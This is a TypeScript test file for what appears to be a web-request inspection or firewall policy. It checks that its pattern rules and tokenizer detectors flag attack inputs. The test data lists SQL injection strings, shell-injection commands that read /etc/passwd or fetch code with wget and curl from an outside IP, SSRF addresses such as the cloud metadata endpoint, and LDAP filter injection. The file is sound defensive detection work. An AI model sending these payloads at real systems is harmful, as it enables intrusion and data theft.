import { describe, expect, test } from 'vitest';
import { watchFor } from '../inspect/compile.ts';
import { compilePolicy } from '../inspect/index.ts';
import { lookAt } from '../inspect/look.ts';
import { hitsOf } from '../inspect/run.ts';
import type { Unit } from '../inspect/unit.ts';
import type { Target } from '../rules/index.ts';
import { samplesOf } from '../testing/pattern-samples.ts';
import { choices } from '../testing/requests.ts';

const policy = compilePolicy({ securityLevel: 'medium', categories: choices('high') });
const hits = hitsOf(policy);

/** Of these targets one of each kind that is watched for in its own way. */
function placesOf(targets: readonly Target[]) {
  const places = new Map(
    targets.map(({ part, of }) => {
      const isName = of === 'names';
      const watch = watchFor(policy, part);
      return [`${watch === policy.few} ${isName}`, { part, isName, watch }] as const;
    }),
  );
  return [...places.values()];
}

/** Whether a text opens the gate of a unit, in each of these places. */
function opens(unit: Unit, places: ReturnType<typeof placesOf>, text: string): boolean {
  return places.every(({ part, isName, watch }) =>
    lookAt(watch, hits, text, 0, text.length, part, isName).opened?.includes(unit),
  );
}

const patterned = policy.units.flatMap((unit) =>
  unit.rules.flatMap(({ id, operator, targets }) =>
    operator.kind === 'pattern' ? [{ id, unit, targets, pattern: operator.pattern }] : [],
  ),
);
/** Texts that a pattern matches. */
function matched(pattern: RegExp, tried: number): string[] {
  return samplesOf(pattern, tried, 1).flatMap((text) => {
    const found = [text, `${text}x`, `x ${text}`].find((one) => pattern.test(one));
    return found === undefined ? [] : [found];
  });
}

describe('a gate opens for whatever its pattern matches', () => {
  test('there are many patterns', () => {
    expect(patterned.length).toBeGreaterThan(180);
  });

  test.each(patterned.map(({ id, ...one }) => [id, one] as const))(
    '%s',
    (_id, { unit, targets, pattern }) => {
      const samples = matched(pattern, 300);
      const places = placesOf(targets);
      expect(places.length).toBeGreaterThan(0);
      expect(samples.length).toBeGreaterThan(22);
      expect(samples.filter((text) => !opens(unit, places, text)).slice(0, 9)).toEqual([]);
    },
  );
});

/** What each tokenizer is for; a space stands for white space of any kind. */
const attacks: Readonly<Record<string, readonly string[]>> = {
  'sql statement': [
    "1' union select a from b-- ",
    '1; drop table users',
    '1;insert into t values (1)',
    '1 and sleep (5)',
    "1'; exec xp_cmdshell 'dir'",
    '1; do $ a $',
    "1; waitfor delay '0:0:5'",
    '1 union all select @@version',
    '1; load data infile',
    '1;kill 5',
    '1 procedure analyse (1)',
    '1; lock tables a write',
  ],
  'sql condition': [
    "1' or 1=1-- ",
    '1 and 1=1',
    '1) = (7=7)-- ',
    '1 in (2=2) #',
    "x' between 'a' and 'b",
    '1 order by 3-- ',
    'a` , b from c-- ',
    '1 - ascii (mid(version(),1,1))-- ',
    '1 not in (select 1)',
    '1 sounds like (select 1)',
    'if (1=1, 2, 3)',
    "1' having 1=1-- ",
  ],
  'sql setting': [
    '1; set @a = 1;',
    '1; use mysql --',
    "1; do 'begin delete from users; end'",
    '1; show tables',
    '1; set role admin;',
    '1; listen x;--',
    '1; explain delete from items',
    '1; vacuum into x',
    '1; values (1)--',
    '1; desc users;--',
  ],
  'sql cast': ['version() ::int', '(select 1) :: text', '1,(a b)::inet', 'f(1) ::jsonb'],
  'shell separators': [
    '; id',
    '| cat /etc/passwd',
    '&& whoami',
    '$( id )',
    '` id `',
    'x ; c"a"t /etc/passwd',
    '; wget http://203.0.113.9/x',
    '\n id',
    '; sudo -u root id',
    '|| ping -c 9 127.0.0.1',
  ],
  'command line': [
    'cat /etc/passwd',
    'ls -la',
    'curl http://203.0.113.9/x',
    'c\\at /etc/passwd',
    '/bin/cat /etc/hosts',
  ],
  'server-side address': [
    'http://127.0.0.1/',
    'http://169.254.169.254/latest',
    'gopher://127.0.0.1:6379/_x',
    '\\\\127.0.0.1\\x',
  ],
  'directory filter': ['*)(uid=*))(|(uid=*', 'admin) (&)', '(& (objectclass=*) (uid=a))', '*) \0'],
};
const blanks = [' ', '\t', '\n', '\r', '\r\n', '\v', '\f', '\xa0', '  ', '\t\t ', '/**/', '/*a*/ '];

function variants(text: string): string[] {
  return blanks.flatMap((blank) => {
    const spaced = text.replaceAll(' ', blank);
    return [spaced, spaced.toUpperCase(), text.replace(' ', blank), text.replace(/ (?=[^ ]*$)/, blank)];
  });
}

describe('a gate opens for whatever its tokenizer finds', () => {
  const detecting = policy.units.flatMap((unit) =>
    unit.detector ? [[unit.detector.name, unit] as const] : [],
  );

  const matching = patterned.flatMap(({ pattern }) => matched(pattern, 100));

  test.each(detecting)('%s', (name, unit) => {
    const texts = [...matching, ...(attacks[name] ?? []).flatMap(variants)];
    const places = placesOf(unit.rules.flatMap(({ targets }) => targets));
    expect(texts.length).toBeGreaterThan(7_000);
    const found = texts.filter((text) => (unit.detector?.detect(text).length ?? 0) > 0);
    expect(found.length).toBeGreaterThan(30);
    expect(found.filter((text) => !opens(unit, places, text)).slice(0, 9)).toEqual([]);
  });
});
